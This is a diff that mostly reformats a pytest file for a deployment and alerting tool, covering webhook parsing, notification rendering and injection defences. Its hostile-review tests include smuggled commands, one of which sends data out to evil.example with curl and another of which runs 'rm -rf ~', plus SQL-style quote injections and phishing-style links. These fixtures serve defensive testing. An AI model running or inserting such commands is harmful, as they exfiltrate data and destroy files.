@@ -25,19 +25,29 @@ from ferry.receiver import Refused, ReplayGuard, environments_query, generic_pus
 
 
 def note(type_: str = "HealthFailed", environment: str = "staging", **kw: object) -> object:
-    return make_notification(workflow_id="env/staging", run_id="run-1", position=12, type_=type_,
-                             environment=environment, message="m", at="2026-11-30T12:00:00Z", **kw)  # type: ignore
+    return make_notification(
+        workflow_id="env/staging",
+        run_id="run-1",
+        position=12,
+        type_=type_,
+        environment=environment,
+        message="m",
+        at="2026-11-30T12:00:00Z",
+        **kw,
+    )  # type: ignore
 
 
 def test_spec_defaults_and_strict_parsing() -> None:
     spec = AlertSpec.model_validate({"name": "oncall", "provider": "pager"}, context={PEOPLE: True})
     assert spec.environments == ["*"] and spec.events == ["*"] and spec.severity == "info"
-    for bad, reason in (({"name": "x", "provider": "p", "evnts": ["Applied"]}, "evnts: unknown field"),
-                        ({"name": "x", "provider": "p", "events": ["Aplied"]}, "unknown event type"),
-                        ({"name": "x", "provider": "p", "severity": "fatal"}, "severity"),
-                        ({"name": "x", "provider": "p", "deadline": "8d"}, "between 1s and 7d"),
-                        ({"name": "X_Y", "provider": "p"}, "name"),
-                        ({"name": "x", "provider": "p", "environments": ["prod'; drop"]}, "environments")):
+    for bad, reason in (
+        ({"name": "x", "provider": "p", "evnts": ["Applied"]}, "evnts: unknown field"),
+        ({"name": "x", "provider": "p", "events": ["Aplied"]}, "unknown event type"),
+        ({"name": "x", "provider": "p", "severity": "fatal"}, "severity"),
+        ({"name": "x", "provider": "p", "deadline": "8d"}, "between 1s and 7d"),
+        ({"name": "X_Y", "provider": "p"}, "name"),
+        ({"name": "x", "provider": "p", "environments": ["prod'; drop"]}, "environments"),
+    ):
         with pytest.raises(pydantic.ValidationError, match=reason):
             AlertSpec.model_validate(bad, context={PEOPLE: True})
     with pytest.raises(pydantic.ValidationError, match="unique"):
@@ -46,15 +56,16 @@ def test_spec_defaults_and_strict_parsing() -> None:
 
 def test_environments_yaml_carries_alerts_validated(tmp_path: Path) -> None:
     env = {"name": "staging", "repository": "r.example/team/app", "semver": ">=1.0.0"}
-    ok = EnvironmentsFile.model_validate({"environments": [env], "alerts": [{"name": "a", "provider": "p"}]},
-                                         context={PEOPLE: True})
+    ok = EnvironmentsFile.model_validate(
+        {"environments": [env], "alerts": [{"name": "a", "provider": "p"}]}, context={PEOPLE: True}
+    )
     assert ok.alerts == [AlertSpec(name="a", provider="p")]
     with pytest.raises(pydantic.ValidationError, match="unknown field"):
-        EnvironmentsFile.model_validate({"environments": [env], "alerts": [{"name": "a", "provider": "p", "x": 1}]},
-                                        context={PEOPLE: True})
+        EnvironmentsFile.model_validate(
+            {"environments": [env], "alerts": [{"name": "a", "provider": "p", "x": 1}]}, context={PEOPLE: True}
+        )
     path = tmp_path / "environments.yaml"
-    path.write_text(json.dumps({"environments": [env], "alerts": [{"name": "a", "provider": "p",
-                                                                   "events": ["Nope"]}]}))
+    path.write_text(json.dumps({"environments": [env], "alerts": [{"name": "a", "provider": "p", "events": ["Nope"]}]}))
     with pytest.raises(CommandError, match=r"alert a: events: unknown event type\(s\) Nope; known: Applied"):
         load_alerts(path)
     path.write_text(json.dumps({"alerts": [], "extra": 1}))
@@ -88,24 +99,47 @@ def test_matching_by_environment_type_and_severity() -> None:
 def test_idempotency_key_is_the_event_identity() -> None:
     key = notification_key("env/a", "run", 12, "Applied", "m")
     assert key == notification_key("env/a", "run", 12, "Applied", "m"), "replay computes the same key"
-    assert len({key, notification_key("env/a", "run", 13, "Applied", "m"),
+    assert (
+        len(
+            {
+                key,
+                notification_key("env/a", "run", 13, "Applied", "m"),
                 notification_key("env/a", "run2", 12, "Applied", "m"),
                 notification_key("env/b", "run", 12, "Applied", "m"),
-                notification_key("env/a", "run", 12, "Healthy", "m")}) == 5
+                notification_key("env/a", "run", 12, "Healthy", "m"),
+            }
+        )
+        == 5
+    )
 
 
 def test_notification_bounded() -> None:
-    big = make_notification(workflow_id="env/x", run_id="r", position=1, type_="Applied", environment="x",
-                            message="m" * 10_000, at="2026-11-30T12:00:00Z",
-                            details={f"k{i}": "v" * 5000 for i in range(100)})
+    big = make_notification(
+        workflow_id="env/x",
+        run_id="r",
+        position=1,
+        type_="Applied",
+        environment="x",
+        message="m" * 10_000,
+        at="2026-11-30T12:00:00Z",
+        details={f"k{i}": "v" * 5000 for i in range(100)},
+    )
     assert len(big.message) <= 1000 and len(big.details) == 16 and all(len(v) <= 512 for v in big.details.values())
     assert len(big.model_dump_json()) < 12_000
 
 
 def test_chat_payloads_respect_provider_limits() -> None:
-    long = make_notification(workflow_id="env/x", run_id="r", position=1, type_="AwaitingApproval",
-                             environment="x" * 60, message="m" * 1000, at="2026-11-30T12:00:00Z", version="1" * 120,
-                             details={f"k{i}": "v" * 512 for i in range(16)})
+    long = make_notification(
+        workflow_id="env/x",
+        run_id="r",
+        position=1,
+        type_="AwaitingApproval",
+        environment="x" * 60,
+        message="m" * 1000,
+        at="2026-11-30T12:00:00Z",
+        version="1" * 120,
+        details={f"k{i}": "v" * 512 for i in range(16)},
+    )
     links = Links()
     slack = json.loads(render("slack", long, links, "a", "summary " * 30).body)
     assert len(slack["blocks"][0]["text"]["text"]) <= 150 and len(slack["blocks"][2]["fields"]) <= 10
@@ -120,8 +154,9 @@ def test_alertmanager_resolution_and_firing_window() -> None:
     fired = json.loads(render("alertmanager", note("AutoRollback"), Links(), "am").body)
     assert fired[0]["labels"]["alertname"] == "FerryAutoRollback"
     assert fired[0]["endsAt"] == "2026-12-01T12:00:00Z", "a problem fires until resolved, 24h at most"
-    resolved = json.loads(render("alertmanager", note("Recovered", resolves=list(RESOLVED_BY_RECOVERY)), Links(),
-                                 "am").body)
+    resolved = json.loads(
+        render("alertmanager", note("Recovered", resolves=list(RESOLVED_BY_RECOVERY)), Links(), "am").body
+    )
     assert {a["labels"]["event"] for a in resolved} == set(RESOLVED_BY_RECOVERY)
     assert all(a["endsAt"] == "2026-11-30T12:00:00Z" for a in resolved)
     assert render("alertmanager", note(), Links(), "am").path == "/api/v2/alerts"
@@ -157,10 +192,18 @@ NOW = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
 
 
 def envelope(**event: object) -> bytes:
-    base: dict[str, object] = {"id": "e1", "timestamp": "2026-11-30T11:59:59.123456789Z", "action": "push",
-                               "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json",
-                                          "repository": "team/app", "digest": "sha256:" + "a" * 64, "tag": "1.2.0"},
-                               "request": {"host": "127.0.0.1:5001"}}
+    base: dict[str, object] = {
+        "id": "e1",
+        "timestamp": "2026-11-30T11:59:59.123456789Z",
+        "action": "push",
+        "target": {
+            "mediaType": "application/vnd.oci.image.manifest.v1+json",
+            "repository": "team/app",
+            "digest": "sha256:" + "a" * 64,
+            "tag": "1.2.0",
+        },
+        "request": {"host": "127.0.0.1:5001"},
+    }
     base.update(event)
     return json.dumps({"events": [base]}).encode()
 
@@ -168,15 +211,23 @@ def envelope(**event: object) -> bytes:
 def test_registry_envelope_parsing() -> None:
     [push] = registry_pushes(envelope(), NOW)
     assert (push.repository, push.tag, push.id) == ("127.0.0.1:5001/team/app", "1.2.0", "e1")
-    layer = {"mediaType": "application/vnd.cncf.flux.content.v1.tar+gzip", "repository": "team/app",
-             "digest": "sha256:" + "b" * 64}
+    layer = {
+        "mediaType": "application/vnd.cncf.flux.content.v1.tar+gzip",
+        "repository": "team/app",
+        "digest": "sha256:" + "b" * 64,
+    }
     assert registry_pushes(envelope(target=layer), NOW) == [], "blob pushes are not releases"
     assert registry_pushes(envelope(action="pull"), NOW) == []
-    cases = [(b"[]", 400), (b"{", 400), (json.dumps({"events": [{}] * 101}).encode(), 413),
-             (b" " * (300 * 1024), 413), (envelope(id="x' OR '"), 400),
-             (envelope(request={"host": "evil'host"}), 400),
-             (envelope(timestamp=(NOW - timedelta(hours=1)).isoformat()), 409),
-             (envelope(timestamp=(NOW + timedelta(hours=1)).isoformat()), 400)]
+    cases = [
+        (b"[]", 400),
+        (b"{", 400),
+        (json.dumps({"events": [{}] * 101}).encode(), 413),
+        (b" " * (300 * 1024), 413),
+        (envelope(id="x' OR '"), 400),
+        (envelope(request={"host": "evil'host"}), 400),
+        (envelope(timestamp=(NOW - timedelta(hours=1)).isoformat()), 409),
+        (envelope(timestamp=(NOW + timedelta(hours=1)).isoformat()), 400),
+    ]
     for body, status in cases:
         with pytest.raises(Refused) as refused:
             registry_pushes(body, NOW)
@@ -184,8 +235,12 @@ def test_registry_envelope_parsing() -> None:
 
 
 def test_generic_webhook_and_replay_guard() -> None:
-    push = generic_push(json.dumps({"repository": "r.example/team/app", "id": "abc", "timestamp": NOW.isoformat(),
-                                    "tag": "1.0.0"}).encode(), NOW)
+    push = generic_push(
+        json.dumps(
+            {"repository": "r.example/team/app", "id": "abc", "timestamp": NOW.isoformat(), "tag": "1.0.0"}
+        ).encode(),
+        NOW,
+    )
     assert push.repository == "r.example/team/app"
     with pytest.raises(Refused, match="id"):
         generic_push(json.dumps({"repository": "r.example/team/app", "timestamp": NOW.isoformat()}).encode(), NOW)
@@ -202,8 +257,14 @@ def test_examples_parse() -> None:
     alerts = load_alerts(root / "alerts.yaml").alerts
     providers = load_providers(root / "alert-providers.yaml")
     assert {a.provider for a in alerts} <= {p.name for p in providers.providers}
-    assert {p.type for p in providers.providers} == {"slack", "msteams", "discord", "alertmanager", "generic-hmac",
-                                                     "cloudevents"}
+    assert {p.type for p in providers.providers} == {
+        "slack",
+        "msteams",
+        "discord",
+        "alertmanager",
+        "generic-hmac",
+        "cloudevents",
+    }
 
 
 def test_what_waits_for_a_person_says_how_to_act() -> None:
@@ -213,16 +274,24 @@ def test_what_waits_for_a_person_says_how_to_act() -> None:
 
 
 def test_awaiting_approval_suggests_an_approver_who_is_not_the_publisher() -> None:
-    waiting = make_notification(workflow_id="promote/production/1.1.0", run_id="r", position=3,
-                                type_="AwaitingApproval", environment="production", message="m",
-                                at="2026-11-30T12:00:00Z", version="1.1.0",
-                                details={"publisher": "sre-bob", "approvers": "sre-bob, sre-alice"})
+    waiting = make_notification(
+        workflow_id="promote/production/1.1.0",
+        run_id="r",
+        position=3,
+        type_="AwaitingApproval",
+        environment="production",
+        message="m",
+        at="2026-11-30T12:00:00Z",
+        version="1.1.0",
+        details={"publisher": "sre-bob", "approvers": "sre-bob, sre-alice"},
+    )
     metadata = json.loads(render("generic", waiting, Links(address="t:7233", namespace="ns"), "a").body)["metadata"]
     assert metadata["approve"].startswith("ferry approve production 1.1.0 --as sre-alice ")
     assert "--address t:7233 --namespace ns --workflow-id promote/production/1.1.0" in metadata["signal"]
 
 
 # ------------------------------------------------------------------------------ from a hostile review
+
 
 def test_one_bad_event_never_hides_the_good_ones_of_its_batch() -> None:
     good = json.loads(envelope())["events"][0]
@@ -259,8 +328,10 @@ def test_delivery_errors_never_carry_the_webhook_path_or_the_token() -> None:
         with pytest.raises(ApplicationError) as refused:
             _post(f"{base}/services/T0/SECRETPATH", b"{}", {"Authorization": "Bearer SECRETTOKEN"}, 5, "chat")
         assert "HTTP 404 Not Found" in refused.value.message and refused.value.non_retryable
-        for bad_url, headers in ((f"{base}/services/SECRET PATH", {}),
-                                 (f"{base}/hook", {"Authorization": "Bearer SECRETTOKEN\n"})):
+        for bad_url, headers in (
+            (f"{base}/services/SECRET PATH", {}),
+            (f"{base}/hook", {"Authorization": "Bearer SECRETTOKEN\n"}),
+        ):
             with pytest.raises(ApplicationError) as malformed:
                 _post(bad_url, b"{}", headers, 5, "chat")
             assert malformed.value.non_retryable and "malformed" in malformed.value.message
@@ -281,18 +352,25 @@ def test_provider_secrets_are_one_clean_line() -> None:
 
 
 def test_forged_notifications_cannot_inject_commands_markup_or_severity() -> None:
-    forged = make_notification(workflow_id="promote/production/1.1.0", run_id="r", position=3,
-                               type_="AwaitingApproval", environment="production", message="<!channel> see "
-                               "<https://evil.example|Approve here>", at="2026-11-30T12:00:00Z",
-                               version="1.2.3 --print | curl -d @- https://evil.example #",
-                               details={"approvers": "alice; rm -rf ~"})
+    forged = make_notification(
+        workflow_id="promote/production/1.1.0",
+        run_id="r",
+        position=3,
+        type_="AwaitingApproval",
+        environment="production",
+        message="<!channel> see <https://evil.example|Approve here>",
+        at="2026-11-30T12:00:00Z",
+        version="1.2.3 --print | curl -d @- https://evil.example #",
+        details={"approvers": "alice; rm -rf ~"},
+    )
     metadata = json.loads(render("generic", forged, Links(), "a").body)["metadata"]
     assert "'1.2.3 --print | curl -d @- https://evil.example #'" in metadata["approve"]
     assert "'alice; rm -rf ~'" in metadata["approve"]
     slack = render("slack", forged, Links(), "a").body
     assert "<!channel>" not in slack and "<https://evil.example|" not in slack and "&lt;!channel&gt;" in slack
-    teams = render("msteams", forged.model_copy(update={"message": "[Approve](https://evil.example)"}), Links(),
-                   "a").body
+    teams = render(
+        "msteams", forged.model_copy(update={"message": "[Approve](https://evil.example)"}), Links(), "a"
+    ).body
     assert "[Approve](https://evil.example)" not in teams
     from ferry.alerts import Notification
 
@@ -305,15 +383,18 @@ def test_forged_notifications_cannot_inject_commands_markup_or_severity() -> Non
 
 
 def _pending(i: int, message: str = "m" * 200) -> PendingDelivery:
-    return PendingDelivery(alert="oncall", provider="pager", deadline_at="2026-12-07T00:00:00Z",
-                           notification=Notification(key=f"key-{i:08d}", type="HealthFailed", at="2026-12-07T00:00:00Z",
-                                                     message=message))
+    return PendingDelivery(
+        alert="oncall",
+        provider="pager",
+        deadline_at="2026-12-07T00:00:00Z",
+        notification=Notification(key=f"key-{i:08d}", type="HealthFailed", at="2026-12-07T00:00:00Z", message=message),
+    )
 
 
 def test_continue_as_new_carries_deliveries_in_flight_within_its_budget_oldest_first() -> None:
     pending = [_pending(i) for i in range(1000)]
     carried, left = carry(pending)
-    assert carried == pending[:len(carried)] and left == pending[len(carried):] and left
+    assert carried == pending[: len(carried)] and left == pending[len(carried) :] and left
     assert sum(len(p.model_dump_json()) for p in carried) <= MAX_CARRIED_BYTES
     assert carry(pending[:10]) == (pending[:10], [])
 
@@ -329,6 +410,7 @@ def test_declared_alerts_past_their_budget_are_refused_with_their_size() -> None
 def test_a_notification_is_ferrys_only_from_a_ferry_run_about_its_own_environment() -> None:
     def refusal(source: str, kind: str, queue: str = "ferry", environment: str = "production") -> str:
         return sender_refusal(SenderInput(source=source, run_id="r", environment=environment), kind, queue, "ferry")
+
     assert refusal("env/production", "EnvironmentWorkflow") == ""
     assert refusal("promote/production/1.1.0", "PromotionWorkflow") == ""
     assert refusal("release/registry.local/team/shop/1.1.0", "ReleaseWorkflow", environment="") == ""
